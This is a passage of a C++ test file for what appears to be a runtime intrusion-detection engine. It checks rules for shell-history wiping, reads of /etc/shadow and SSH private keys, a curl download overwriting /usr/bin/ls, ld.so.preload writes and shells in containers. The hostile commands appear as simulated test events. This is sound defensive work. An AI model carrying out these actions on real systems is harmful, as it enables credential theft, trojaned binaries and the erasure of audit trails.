  hit.Open(kPid, "/root/.bash_history", O_WRONLY | O_TRUNC);  // `> ~/.bash_history`
  Scene miss = Proc("bash", {}, "sshd");
  miss.Open(kPid, "/root/.bash_history", O_WRONLY | O_APPEND);  // bash saving its history
  Expect("Shell history deleted or truncated", hit, miss);
  Scene rm = Proc("rm", {"/home/alice/.zsh_history"}, "zsh");
  Unlinkat(rm, "/home/alice/.zsh_history");
  EXPECT_TRUE(FiresOn(rm, "Shell history deleted or truncated"));
  Scene link = Proc("ln", {"-sf", "/dev/null", "/root/.bash_history"}, "bash");
  link.Start(EventType::kSymlinkat, kPid);
  link.Arg("target", ArgKind::kPath).text = "/dev/null";
  link.Arg("linkdirfd", ArgKind::kFd).num = -100;
  link.Arg("linkpath", ArgKind::kPath).text = "/root/.bash_history";
  EXPECT_TRUE(FiresOn(link, "Shell history deleted or truncated"));
  Scene other = Proc("rm", {"/home/alice/notes.txt"}, "bash");
  Unlinkat(other, "/home/alice/notes.txt");
  EXPECT_FALSE(FiresOn(other, "Shell history deleted or truncated"));
}

TEST_F(DefaultRules, ShellHistoryDisabled) {
  Scene hit = Proc("bash", {}, "sshd");
  hit.state.procs[kPid].env = {"HOME=/root", "HISTFILE=/dev/null"};
  hit.Exec(kPid);
  Scene miss = Proc("bash", {}, "sshd");
  miss.state.procs[kPid].env = {"HOME=/root", "HISTFILE=/root/.bash_history", "HISTSIZE=1000"};
  miss.Exec(kPid);
  Expect("Shell history disabled", hit, miss);
  Scene cleared = ExecOf("bash", {"-c", "history -c"}, "bash");
  EXPECT_TRUE(FiresOn(cleared, "Shell history disabled"));
  Scene not_shell = Proc("python3", {}, "bash");  // the variable only matters to shells
  not_shell.state.procs[kPid].env = {"HISTSIZE=0"};
  not_shell.Exec(kPid);
  EXPECT_FALSE(FiresOn(not_shell, "Shell history disabled"));
}

// --- Credentials ----------------------------------------------------------

TEST_F(DefaultRules, ReadSensitiveFile) {
  Scene hit = Proc("cat", {"/etc/shadow"}, "bash");
  hit.Open(kPid, "/etc/shadow", O_RDONLY);
  Scene miss = Proc("sshd", {}, "systemd");  // its job
  miss.Open(kPid, "/etc/shadow", O_RDONLY);
  Expect("Read sensitive file", hit, miss);
  Scene key = Proc("python3", {"steal.py"}, "sh", Where::kContainer);
  key.Open(kPid, "/home/alice/.ssh/id_ed25519", O_RDONLY);
  EXPECT_TRUE(FiresOn(key, "Read sensitive file"));
  Scene pub = Proc("cat", {"/home/alice/.ssh/id_ed25519.pub"}, "bash");  // a public key
  pub.Open(kPid, "/home/alice/.ssh/id_ed25519.pub", O_RDONLY);
  EXPECT_FALSE(FiresOn(pub, "Read sensitive file"));
  Scene pam = Proc("cat", {}, "bash");
  pam.Open(kPid, "/etc/pam.d/common-auth", O_RDONLY);
  EXPECT_TRUE(FiresOn(pam, "Read sensitive file"));
  Scene passwd = Proc("cat", {"/etc/passwd"}, "bash");
  passwd.Open(kPid, "/etc/passwd", O_RDONLY);
  EXPECT_FALSE(FiresOn(passwd, "Read sensitive file"));
  Scene upgrade = Proc("sh", {"/var/lib/dpkg/info/passwd.postinst"}, "dpkg");  // a package script
  upgrade.Open(kPid, "/etc/shadow", O_RDONLY);
  EXPECT_FALSE(FiresOn(upgrade, "Read sensitive file"));
}

// --- Binaries and /etc ----------------------------------------------------

TEST_F(DefaultRules, WriteBelowBinaryDir) {
  Scene hit = Proc("curl", {"-o", "/usr/bin/ls", "http://203.0.113.5/ls"}, "bash");
  hit.Open(kPid, "/usr/bin/ls", O_WRONLY | O_CREAT | O_TRUNC);
  Scene miss = Proc("dpkg", {"--unpack", "coreutils.deb"}, "apt-get");
  miss.Open(kPid, "/usr/bin/ls", O_WRONLY | O_CREAT | O_TRUNC);
  Expect("Write below binary dir", hit, miss);
  Scene read = Proc("sha256sum", {"/usr/bin/ls"}, "bash");
  read.Open(kPid, "/usr/bin/ls", O_RDONLY);
  EXPECT_FALSE(FiresOn(read, "Write below binary dir"));
  Scene local = Proc("cp", {"tool", "/usr/local/sbin/tool"}, "bash", Where::kContainer);
  local.Open(kPid, "/usr/local/sbin/tool", O_WRONLY | O_CREAT | O_TRUNC);
  EXPECT_TRUE(FiresOn(local, "Write below binary dir"));
  Scene share = Proc("cp", {"tool", "/usr/share/tool/x"}, "bash");
  share.Open(kPid, "/usr/share/tool/x", O_WRONLY | O_CREAT | O_TRUNC);
  EXPECT_FALSE(FiresOn(share, "Write below binary dir"));
}

TEST_F(DefaultRules, BinaryRenamedOrRemoved) {
  Scene hit = Proc("rm", {"-f", "/usr/bin/ps"}, "bash");
  Unlinkat(hit, "/usr/bin/ps");
  Scene miss = Proc("dpkg", {"--remove", "procps"}, "apt-get");
  Unlinkat(miss, "/usr/bin/ps");
  Expect("Binary renamed or removed", hit, miss);
  Scene swap = Proc("mv", {"/tmp/ps", "/usr/bin/ps"}, "bash");
  Rename(swap, "/tmp/ps", "/usr/bin/ps");
  EXPECT_TRUE(FiresOn(swap, "Binary renamed or removed"));
  Scene unlink = Proc("rm", {"/sbin/auditctl"}, "bash", Where::kContainer);
  unlink.Start(EventType::kUnlink, kPid);
  unlink.Arg("path", ArgKind::kPath).text = "/sbin/auditctl";
  EXPECT_TRUE(FiresOn(unlink, "Binary renamed or removed"));
  Scene elsewhere = Proc("rm", {"-f", "/home/alice/bin/ps"}, "bash");
  Unlinkat(elsewhere, "/home/alice/bin/ps");
  EXPECT_FALSE(FiresOn(elsewhere, "Binary renamed or removed"));
  Scene failed = hit;
  failed.evt.res = -13;  // EACCES
  EXPECT_FALSE(FiresOn(failed, "Binary renamed or removed"));
}

TEST_F(DefaultRules, DynamicLinkerPreloadConfigured) {
  Scene hit = Proc("bash", {}, "sshd");
  hit.Open(kPid, "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_APPEND);  // echo lib.so >> ...
  Scene miss = Proc("bash", {}, "sshd");
  miss.Open(kPid, "/etc/ld.so.preload", O_RDONLY | O_CLOEXEC);  // what the loader does at every start
  Expect("Dynamic linker preload configured", hit, miss);
}

TEST_F(DefaultRules, WriteBelowEtc) {
  Scene hit = Proc("bash", {}, "sshd");
  hit.Open(kPid, "/etc/cron.d/update", O_WRONLY | O_CREAT | O_TRUNC);
  Scene miss = Proc("bash", {}, "sshd");
  miss.Open(kPid, "/tmp/cron.d/update", O_WRONLY | O_CREAT | O_TRUNC);  // the same write outside /etc
  Expect("Write below etc", hit, miss);
  Scene host_tool = Proc("passwd", {"alice"}, "bash");  // a system tool on the host
  host_tool.Open(kPid, "/etc/shadow", O_WRONLY | O_CREAT | O_TRUNC);
  EXPECT_FALSE(FiresOn(host_tool, "Write below etc"));
  Scene container_tool = Proc("passwd", {"alice"}, "bash", Where::kContainer);  // any writer in a container
  container_tool.Open(kPid, "/etc/shadow", O_WRONLY | O_CREAT | O_TRUNC);
  EXPECT_TRUE(FiresOn(container_tool, "Write below etc"));
  Scene package = Proc("dpkg", {"--configure", "-a"}, "apt-get", Where::kContainer);
  package.Open(kPid, "/etc/nginx/nginx.conf", O_WRONLY | O_CREAT | O_TRUNC);
  EXPECT_FALSE(FiresOn(package, "Write below etc"));
  Scene read = Proc("bash", {}, "sshd");
  read.Open(kPid, "/etc/cron.d/update", O_RDONLY);
  EXPECT_FALSE(FiresOn(read, "Write below etc"));
}

// --- Software installed at run time ---------------------------------------

TEST_F(DefaultRules, PackageManagerLaunchedInContainer) {
  Scene hit = ExecOf("apt-get", {"install", "-y", "nmap"}, "bash", Where::kContainer);
  Scene miss = ExecOf("apt-get", {"install", "-y", "nmap"}, "bash");  // on the host
  Expect("Package manager launched in container", hit, miss);
  Scene pip = ExecOf("pip", {"install", "requests"}, "sh", Where::kContainer);
  EXPECT_TRUE(FiresOn(pip, "Package manager launched in container"));
  Scene child = ExecOf("dpkg", {"--unpack", "nmap.deb"}, "apt-get", Where::kContainer);  // apt's own helper
  EXPECT_FALSE(FiresOn(child, "Package manager launched in container"));
}

// --- Shells in containers -------------------------------------------------

TEST_F(DefaultRules, InteractiveShellInContainer) {
  Scene hit = Proc("bash", {}, "runc:[2:INIT]", Where::kContainer);
  hit.state.procs[kPid].tty = kTty;  // docker exec -it
  hit.Exec(kPid);
  Scene miss = ExecOf("bash", {}, "runc:[2:INIT]", Where::kContainer);  // no terminal: a script
  Expect("Interactive shell in container", hit, miss);
  Scene nested = Proc("sh", {}, "bash", Where::kContainer);  // a shell of the same session
  nested.state.procs[kPid].tty = kTty;
  nested.Exec(kPid);
  EXPECT_FALSE(FiresOn(nested, "Interactive shell in container"));
  Scene host = Proc("bash", {}, "sshd");
  host.state.procs[kPid].tty = kTty;
  host.Exec(kPid);
  EXPECT_FALSE(FiresOn(host, "Interactive shell in container"));
}

TEST_F(DefaultRules, ShellSpawnedByApplicationInContainer) {
  Scene hit = ExecOf("sh", {"-c", "id; cat /etc/passwd"}, "python3", Where::kContainer);
  Scene miss = ExecOf("sh", {"-c", "id; cat /etc/passwd"}, "tini", Where::kContainer);  // the entrypoint
  Expect("Shell spawned by application in container", hit, miss);
  Scene host = ExecOf("sh", {"-c", "id"}, "python3");
  EXPECT_FALSE(FiresOn(host, "Shell spawned by application in container"));
  Scene not_shell = ExecOf("id", {}, "python3", Where::kContainer);
  EXPECT_FALSE(FiresOn(not_shell, "Shell spawned by application in container"));
}

}  // namespace
}  // namespace bulwark::runtime::watch
